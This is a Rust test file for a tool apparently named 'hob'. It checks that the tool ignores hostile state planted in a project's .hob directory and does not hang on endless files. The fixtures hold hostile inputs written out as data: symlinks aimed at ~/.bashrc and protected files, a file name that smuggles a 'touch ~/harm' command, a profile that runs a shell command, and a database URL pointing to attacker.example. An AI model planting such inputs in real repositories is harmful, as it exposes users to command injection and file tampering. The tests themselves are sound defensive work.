//! State under hob's names, and endless files that hob might read: none is trusted, and hob does not hang.

use std::fs;
use std::os::unix::fs::{PermissionsExt, symlink};

use super::{EVERYDAY, Victim};

#[test]
fn what_lies_in_the_checkout_under_hobs_names_is_not_believed() {
    let mut victim = Victim::new();
    victim.project.write("hob.toml", "");
    victim.link(victim.precious(), ".hob/sessions");
    victim.link(victim.precious().join("next-evaluation"), ".hob/output/next-evaluation");
    victim.link(victim.project.home().join(".bashrc"), ".hob/log/daemon.jsonl");
    victim.link(victim.precious().join("two.jsonl"), ".hob/log/journal.jsonl");
    victim.link(victim.precious(), ".hob/identities");
    victim.link(victim.precious().join("notes"), ".hob/lock");
    victim.link(victim.precious().join("notes"), ".hob/socket");
    victim.project.write(".hob/output/x\ntouch ~/harm\n-0123456789abcdef-0000000000001/0", "");
    victim.project.write(".hob/mail-database", "postgres://me@attacker.example/mail");
    fs::set_permissions(victim.root().join(".hob/mail-database"), fs::Permissions::from_mode(0o600)).unwrap();
    victim.project.write(".hob/mail.db", "shipped");
    victim
        .project
        .write(".hob/profiles/python.toml", "driver = \"bash\"\ncommand = [\"sh\", \"-c\", \"touch ~/harm\"]\n");
    victim.ready();
    for command in EVERYDAY {
        victim.run(command);
        victim.assert_unharmed(&command.join(" "));
    }
    let evaluated = victim.run(&["call", "repl_eval", "--code", "echo $((6 * 7))"]);
    // Any REPL may run: the code reached it, and may be invalid in its language (9).
    assert!(matches!(evaluated.code, Some(0 | 9)) || evaluated.stderr.contains("profile"), "{evaluated:#?}");
    assert!(victim.run(&["doctor"]).stdout.contains(".hob is ignored"));
    // The mail of this project went to the right store.
    assert!(victim.project.state_dir().join("mail.db").metadata().is_ok_and(|file| file.len() > 0));
}

#[test]
fn a_hob_directory_of_any_kind_is_no_matter() {
    for kind in ["link", "dangling", "file", "pipe", "closed"] {
        let mut victim = Victim::new();
        victim.project.write("hob.toml", "");
        let at = victim.root().join(".hob");
        match kind {
            "link" => symlink(victim.precious(), &at).unwrap(),
            "dangling" => symlink(victim.precious().join("new"), &at).unwrap(),
            "file" => fs::write(&at, "x").unwrap(),
            "pipe" => assert!(victim.project.command("mkfifo").arg(&at).status().unwrap().success()),
            _ => {
                fs::create_dir(&at).unwrap();
                fs::set_permissions(&at, fs::Permissions::from_mode(0o000)).unwrap();
            }
        }
        victim.ready();
        for command in EVERYDAY {
            let ran = victim.run(command);
            // `trust` asks, but gets no answer.
            let may_fail = matches!(command[0], "send" | "inbox" | "trust");
            assert!(may_fail || ran.code == Some(0) || command[0] == "doctor", "{kind}: {command:?}: {ran:#?}");
            victim.assert_unharmed(kind);
        }
        let _ = fs::set_permissions(&at, fs::Permissions::from_mode(0o700));
    }
}

#[test]
fn nothing_that_is_read_keeps_anybody_waiting() {
    // A program that reads an endless file never answers: only hob's own waiting is of interest.
    let run = |victim: &Victim, command: &[&str]| match command {
        ["call", "repl_eval", ..] => victim.run(&[command, &["--wait-ms", "2000"]].concat()),
        _ => victim.run(command),
    };
    let check = |kind| {
        let mut victim = Victim::new();
        fs::create_dir(victim.root().join(".git")).unwrap();
        for name in ["hob.toml", ".git/HEAD", ".git/config", "cabal.project", "a.cure", ".mcp.json"] {
            let at = victim.root().join(name);
            match kind {
                "pipe" => assert!(victim.project.command("mkfifo").arg(&at).status().unwrap().success()),
                "zero" => symlink("/dev/zero", &at).unwrap(),
                _ => symlink("/proc/self/pagemap", &at).unwrap(),
            }
        }
        victim.ready();
        for command in EVERYDAY {
            run(&victim, command);
            victim.assert_unharmed(kind);
        }
        // Without the unreadable settings, hob reads the others and starts a daemon, and cabal works too.
        fs::remove_file(victim.root().join("hob.toml")).unwrap();
        let also: [&[&str]; 3] = [&["cure", "check", "a.cure"], &["call", "repl_eval", "--code", "1"], &["mail"]];
        for command in also.iter().chain(EVERYDAY) {
            run(&victim, command);
        }
    };
    // In parallel, since most of the time is spent in timeouts.
    std::thread::scope(|scope| {
        for kind in ["pipe", "zero", "pages"] {
            scope.spawn(move || check(kind));
        }
    });
}
